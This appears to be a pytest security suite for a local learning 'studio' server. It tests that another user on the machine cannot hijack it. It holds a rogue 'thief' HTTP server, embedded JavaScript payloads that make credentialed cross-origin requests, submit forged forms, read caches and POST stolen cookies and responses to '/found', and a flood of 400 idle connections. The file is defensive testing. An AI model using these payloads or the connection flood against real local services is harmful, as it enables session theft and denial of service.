"""What another user of the machine can do to a studio, with a port of its own and everything that it can see:
nothing."""

import contextlib
import http.client
import json
import os
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from studio import ports, server
from tests.studio.conftest import Server
from tests.studio.test_guard import ask
from tests.studio.test_learner import editor, write

NOBODY = 65534
IS_ROOT = hasattr(os, "getuid") and os.getuid() == 0
DROP = f"os.setgroups([]); os.setgid({NOBODY}); os.setuid({NOBODY})\n" if IS_ROOT else ""

# A server of another user: answers everything with a page or with what a studio would say, and prints each request.
THIEF = f"""
import encodings.idna, http.server, json, os, sys
{DROP}
class Thief(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def answer(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        print(json.dumps([self.path, dict(self.headers), body.decode()]), flush=True)
        text = json.dumps({{"challenge": "guessed", "root": "/guessed", "key": "guessed"}}).encode()
        kind = "application/json"
        if "text/html" in self.headers.get("Accept", ""):
            text, kind = sys.argv[2].encode(), "text/html"
        self.send_response(200)
        headers = (("Content-Type", kind), ("Content-Length", str(len(text))), ("Set-Cookie", "studio=junk; Path=/"))
        for name, value in headers:
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(text)
    do_GET = do_POST = do_PUT = do_HEAD = answer
    def log_message(self, *arguments): pass
http.server.ThreadingHTTPServer.allow_reuse_address = True
server = http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Thief)
print(server.server_address[1], flush=True)
server.serve_forever()
"""


class Thief:
    """Such a server while it runs. `requests` are the path, the headers and the body of each."""

    def __init__(self, port: int = 0, page: str = "") -> None:
        self._process = subprocess.Popen(
            [sys.executable, "-c", THIEF, str(port), page], stdout=subprocess.PIPE, text=True
        )
        assert self._process.stdout is not None
        self.port = int(self._process.stdout.readline())
        self.requests = list[tuple[str, dict[str, str], str]]()

    def wait_for(self, path: str, times: int = 1) -> None:
        """Waits until so many requests for this path have come."""
        assert self._process.stdout is not None
        while sum(request[0] == path for request in self.requests) < times:
            self.requests.append(tuple(json.loads(self._process.stdout.readline())))

    def end(self) -> None:
        self._process.kill()
        out, _ = self._process.communicate()
        self.requests += [tuple(json.loads(line)) for line in out.splitlines()]


@contextlib.contextmanager
def thief(port: int = 0, page: str = "") -> Iterator[Thief]:
    server = Thief(port, page)
    try:
        yield server
    finally:
        server.end()


@pytest.fixture
def public_folder() -> Iterator[Path]:
    """A folder that every user can read, as a home folder often is."""
    with tempfile.TemporaryDirectory() as name:
        Path(name).chmod(0o755)
        yield Path(name)


def test_the_command_line_of_the_browser_has_no_secret(browser: Browser, public_folder: Path):
    """The browser gets a file that only its user can read, and arrives: a strict cookie survives the way from a
    file."""
    seen = public_folder / "seen"
    (public_folder / "browser").write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" > {seen}.new\nmv {seen}.new {seen}\n')
    (public_folder / "browser").chmod(0o755)
    studio = Server(public_folder, BROWSER=str(public_folder / "browser"))
    try:
        while not seen.exists():
            time.sleep(0.05)
        (url,) = seen.read_text().splitlines()
        door = Path(url.removeprefix("file://"))
        assert door == studio.workspace / ".studio.html"
        assert not any(secret in url for secret in (studio.token, studio.root, studio.cookie))
        assert (door.stat().st_mode & 0o777, studio.address in door.read_text()) == (0o600, True)
        if IS_ROOT:
            read = f"import os, sys\n{DROP}\nopen(sys.argv[1]).read()"
            done = subprocess.run([sys.executable, "-c", read, door], capture_output=True, text=True, check=False)
            assert "PermissionError" in done.stderr
        with browser.new_context() as context:
            page = context.new_page()
            page.goto(url)
            page.wait_for_url(f"{studio.base}/")
            expect(page.get_by_role("heading", level=1)).to_be_visible()
    finally:
        studio.stop()
    assert not door.exists()


def test_a_folder_that_cannot_hold_the_file_opens_no_browser(tmp_path: Path, capsys: pytest.CaptureFixture[str]):
    (tmp_path / server.DOOR / "full").mkdir(parents=True)
    with server._door(tmp_path, "http://127.0.0.1:1/?token=x") as door:
        server._open_browser(door)
    assert capsys.readouterr().err == "No browser was opened. Open the address above.\n"


ATTACK = """<script>
const at = "BASE", ways = [];
for (const path of ["/", "/problems/07/file", "/?token=guessed", "/renewal"]) {
  ways.push(fetch(at + path, { credentials: "include", mode: "no-cors" }));
  ways.push(fetch(at + path, { credentials: "include" }));
  ways.push(fetch(at + path, { method: "POST", body: "{}", credentials: "include", mode: "no-cors" }));
}
new EventSource(at + "/problems/07/events", { withCredentials: true });
const add = (tag, properties) => document.body.appendChild(Object.assign(document.createElement(tag), properties));
for (const tag of ["img", "script", "iframe"]) add(tag, { src: at + "/" });
add("iframe", { name: "frame" });
add("form", { method: "POST", action: at + "/problems/07/hint", target: "frame" }).submit();
Promise.allSettled(ways).then(async (all) => {
  const read = await Promise.all(all.map(({ value }) => (value ? value.text() : "")));
  await fetch("/found", { method: "POST", body: JSON.stringify([document.cookie, document.referrer, ...read]) });
});
</script>"""


def test_a_page_on_another_port_gets_nothing(page: Page, studio: Server):
    """The learner opens it in the browser that has the studio's cookie, by a link from the studio and by its
    address."""
    page = page.context.new_page()  # errors are expected here
    page.goto(f"{studio.base}/problems/07")
    with thief(page=f"<body>{ATTACK}".replace("BASE", studio.origin)) as other:
        page.evaluate(f"document.querySelector('a.brand').href = 'http://127.0.0.1:{other.port}/'")
        page.locator("a.brand").click()
        other.wait_for("/found")
        page.goto(f"http://127.0.0.1:{other.port}/problems/07/file")
        other.wait_for("/found", times=2)
    found = [body for path, _, body in other.requests if path == "/found"]
    assert len(found) == 2
    for body in found:
        assert json.loads(body)[:2] == ["studio=junk", ""], "its own cookie, and no page that it came from"
    value = studio.cookie.partition("=")[2]
    for secret in (value, studio.root, studio.token, "def next_token_loss"):
        assert secret not in json.dumps(other.requests)
    assert json.loads(ask(studio, "/problems/07/hint", "POST", {}).body)["number"] == 1, "nobody has asked for one"
    page.goto(f"{studio.base}/problems/07")  # its cookie of the same name is in nobody's way
    expect(editor(page)).to_contain_text("def next_token_loss")


@pytest.mark.thorough
def test_idle_connections_do_not_lock_the_owner_out(studio: Server):
    """They say nothing, or half of a request, or ask without the secrets. Each ends soon; the owner's stays."""
    owner = http.client.HTTPConnection("127.0.0.1", studio.port, timeout=60)
    headers = {"Host": f"127.0.0.1:{studio.port}", "Cookie": studio.cookie}
    owner.request("GET", f"{studio.root}/problems/07/events", headers=headers)
    events = owner.getresponse()
    assert events.readline() == b"event: file\n"
    unfinished = (b"", b"GET / HTTP/1.1\r\nHost: ", b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
    with contextlib.ExitStack() as stack:
        opened = [stack.enter_context(socket.create_connection(("127.0.0.1", studio.port))) for _ in range(400)]
        for number, sock in enumerate(opened):
            with contextlib.suppress(OSError):
                sock.sendall(unfinished[number % len(unfinished)])
        started = time.monotonic()
        for _ in range(3):
            assert ask(studio, "/").status == 200
        assert time.monotonic() - started < 10
        for sock in opened:
            sock.settimeout(30)
            with contextlib.suppress(ConnectionError):
                while sock.recv(1000):
                    pass
    assert ask(studio, "/problems/07/grade", "POST", {}).status == 202
    assert any(line == b"event: grading\n" for line in iter(events.readline, b""))
    owner.close()


# What the browser has stored for the address, asked for by a page that another program serves there.
STORED = """<script>
fetch("BASE/problems/07", { cache: "force-cache" }).then(async (answer) => {
  const names = await caches.keys(), entries = performance.getEntries().map(({ name }) => name);
  const body = [await answer.text(), document.cookie, ...names, ...entries, ...Object.values(sessionStorage)];
  await fetch("/found", { method: "POST", body: JSON.stringify(body) });
});
</script>"""


@pytest.mark.thorough
def test_who_takes_the_port_in_between_learns_nothing(page: Page, studio: Server):
    """A page is open while the studio is stopped, and talks to another program. It comes back when the studio does."""
    page.goto(f"{studio.base}/problems/07")
    write(page, "typed = True\n")
    earlier, port = studio.base, studio.port
    studio.stop()
    with thief(port, STORED.replace("BASE", studio.root)) as other:
        other.wait_for("/renewal", times=2)  # the page does not believe the first answer
        expect(page.locator("#offline")).to_be_visible()
        again = page.context.new_page()
        again.goto(studio.origin)
        other.wait_for("/found")
        again.close()
    renewal_keys = (studio.folder / "secret" / f"renewal-{port}").read_text().split()
    assert len(renewal_keys[0]) == 43
    assert not [key for key in (*renewal_keys, studio.token) if key in json.dumps(other.requests)]
    studio.start()
    assert (studio.port, studio.base == earlier) == (port, False)
    assert any(path == "/renewal" and len(body) == 64 for path, _, body in other.requests), (
        "the page has signed a challenge"
    )
    for path, headers, body in other.requests:
        cookie = headers.get("Cookie", "")
        for root in ("", studio.root):
            assert ask(studio, path, cookie=cookie, root=root).status == (200 if root + path == "/renewal" else 403)
        assert ask(studio, "/renewal", "POST", body.encode(), root="", cookie=cookie).status == 403
    expect(page.locator("#offline")).to_be_hidden()
    expect(page.locator("#outdated")).to_be_hidden()
    page.get_by_role("button", name="Save and grade").click()
    expect(page.locator("#saved")).to_have_text("saved")
    assert page.url.startswith(studio.base)
    assert studio.file("p07_next_token_loss").read_text() == "typed = True\n"


def test_a_port_that_somebody_still_talks_on_is_not_used():
    """A program that had the port before may hold a connection that the browser would use for the studio."""
    with socket.create_server(("127.0.0.1", 0)) as server, socket.socket() as browser:
        port = server.getsockname()[1]
        browser.connect(("127.0.0.1", port))
        with server.accept()[0]:
            server.close()
            assert used(port) != port
        browser.close()
        assert used(port) == port


def test_nobody_else_can_be_localhost():
    """`localhost` is also an address of IP version 6, where another program could listen."""
    if not ports._has_ip_6():
        pytest.skip("this machine has no IP version 6")
    with socket.create_server(("::1", 0), family=socket.AF_INET6) as other:
        assert used(other.getsockname()[1]) != other.getsockname()[1]


def used(port: int) -> int:
    """The port that a studio would use if it were asked to use this one."""
    sockets = ports.listen(port)
    found = {sock.getsockname()[1] for sock in sockets}
    for sock in sockets:
        sock.close()
    (number,) = found
    return int(number)
